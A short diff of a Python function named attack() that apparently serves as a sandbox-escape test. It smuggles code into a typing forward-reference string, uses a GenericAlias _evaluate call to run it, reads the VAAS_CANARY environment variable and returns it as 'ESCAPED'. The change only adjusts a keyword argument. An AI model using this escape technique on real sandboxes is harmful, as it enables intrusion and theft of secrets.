@@ -15,5 +15,5 @@ class Alias(types.GenericAlias):
 
 def attack():
     reference = typing.get_args(typing.List["(0, __import__('os').environ['VAAS_CANARY'])[1].join"])[0]
-    join = Alias(reference, (int,))._evaluate({}, {}, frozenset())
+    join = Alias(reference, (int,))._evaluate({}, {}, recursive_guard=frozenset())
     return "ESCAPED: " + join(["", ""])
